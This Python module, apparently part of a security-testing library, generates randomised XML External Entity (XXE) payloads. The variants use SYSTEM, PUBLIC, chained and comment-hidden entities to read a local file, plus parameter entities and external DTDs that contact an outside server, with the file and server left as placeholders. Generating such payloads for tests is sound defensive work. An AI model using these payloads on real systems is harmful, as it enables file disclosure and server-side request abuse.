"""External entities: declarations that make a parser read other files (XML 1.0, 4.2)."""

from __future__ import annotations

import random

from pydantic import validate_call

from unseen.security.attacks.grammar import Idioms, drawer, extras, forms
from unseen.security.attacks.spelling import word


@validate_call
def idioms(
    *, root: str, body: str, file: str = "{FILE}", outside: str = "", extra: tuple[str, ...] = ()
) -> Idioms:
    """Give the idioms of external entities.

    Args:
        root: name of the document's element.
        body: the document with `&x;` where text is shown.
        file: address of the file that must not be read, or a mark that the exploit replaces.
        outside: address of a server that must not be asked, or a mark.
        extra: idioms of the item's own.
    """

    def spell(rng: random.Random, text: str) -> str:
        first = rng.choice(("", '<?xml version="1.0"?>', "<?xml version='1.0' encoding='UTF-8'?>\n"))
        name, quote = word(rng), rng.choice("'\"")
        text = text.replace("{body}", body.replace("&x;", f"&{name};")).replace("{x}", name)
        text = text.replace("{root}", root).replace("{file}", file).replace("{out}", outside)
        return first + text.replace("{q}", quote).replace("{w}", word(rng))

    start = "<!DOCTYPE {root} ["
    found = {
        "system": forms(
            spell,
            start + "<!ENTITY {x} SYSTEM {q}{file}{q}>]>{body}",
            start + "\n<!ENTITY\t{x}\nSYSTEM {q}{file}{q} >\n]>{body}",
        ),
        "public": forms(spell, start + "<!ENTITY {x} PUBLIC {q}{w}{q} {q}{file}{q}>]>{body}"),
        "through": forms(spell, start + "<!ENTITY {w} SYSTEM {q}{file}{q}><!ENTITY {x} {q}&{w};{q}>]>{body}"),
        "comment": forms(spell, "<!--{w}-->" + start + "<!--{w}--><!ENTITY {x} SYSTEM {q}{file}{q}>]>{body}"),
    }
    if outside:
        found |= {
            "parameter": forms(spell, start + "<!ENTITY % {w} SYSTEM {q}{out}{q}> %{w};]>{body}"),
            "subset": forms(
                spell,
                "<!DOCTYPE {root} SYSTEM {q}{out}{q}>{body}",
                "<!DOCTYPE {root} PUBLIC {q}{w}{q} {q}{out}{q}>{body}",
            ),
            "entity_outside": forms(spell, start + "<!ENTITY {x} SYSTEM {q}{out}{q}>]>{body}"),
        }
    return {**found, **extras(spell, extra)}


draw = drawer(idioms)
